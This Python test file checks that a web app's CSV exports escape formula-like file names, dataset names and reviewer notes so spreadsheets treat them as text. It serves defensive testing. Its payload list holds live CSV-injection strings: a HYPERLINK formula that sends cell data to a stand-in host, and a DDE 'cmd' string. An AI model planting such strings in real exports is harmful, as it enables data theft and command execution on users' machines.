"""CSV exports never hand a spreadsheet a formula: file names, dataset names and reviewers' notes
that start with = + - @ are written as text (a leading apostrophe); numbers stay numbers."""

from __future__ import annotations

import csv

from tests.factories import (
    make_dataset,
    make_decision,
    make_prediction,
    make_seeded_image,
    make_version,
)
from webapp.services.reporting import exports, reports
from webapp.services.reporting.csv_safe import safe_cell

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]


def read(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_labels_csv_writes_formula_like_names_as_text(app_ctx, tmp_path):
    dataset = make_dataset("=evil")
    for seed, name in enumerate(PAYLOADS):
        make_seeded_image(dataset, "real", "test", seed=seed, file_name=name)
    path = tmp_path / "labels.csv"
    exports.write_labels_csv(path)
    rows = read(path)
    assert [row["file_name"] for row in rows] == ["'" + name for name in PAYLOADS]
    assert {row["dataset"] for row in rows} == {"'=evil"}
    assert all(row["image_id"].isdigit() for row in rows)


def test_report_csv_writes_formula_like_notes_as_text(app_ctx, tmp_path):
    dataset = make_dataset("alpha")
    version = make_version("v1", active=True)
    image = make_seeded_image(dataset, "real", "test", seed=1, file_name="@file.png")
    make_prediction(
        image, version, 0.1, ood_score=None, audit_key=0.0
    )  # REAL; the reviewer says FAKE
    make_decision(image, "rita", "fake", version, note="=1+1")
    path = tmp_path / "report.csv"
    reports.write_misclassified(path, "csv")
    (row,) = read(path)
    assert row["file_name"] == "'@file.png"
    assert not row["decisions"].startswith(("=", "+", "-", "@"))
    assert float(row["p_fake"]) == 0.1


def test_numbers_and_plain_text_are_left_alone():
    assert safe_cell("-0.250000") == "-0.250000"
    assert safe_cell(-3) == -3
    assert safe_cell("cat.png") == "cat.png"
    assert safe_cell("\t=1") == "'\t=1"
